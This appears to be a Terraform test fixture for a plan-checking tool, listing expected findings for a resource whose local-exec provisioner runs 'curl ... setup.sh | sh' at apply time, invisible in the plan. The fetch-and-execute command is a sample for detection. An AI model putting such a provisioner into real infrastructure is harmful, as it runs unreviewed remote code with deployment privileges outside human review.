# A command run at apply by a provisioner, with the apply role: nothing in the plan shows it.
# want: plan.unjudged_type terraform_data.bootstrap
# want: plan.provisioner terraform_data.bootstrap
resource "terraform_data" "bootstrap" {
  input = "once"

  provisioner "local-exec" {
    command = "curl -fsS https://example.com/setup.sh | sh"
  }
}
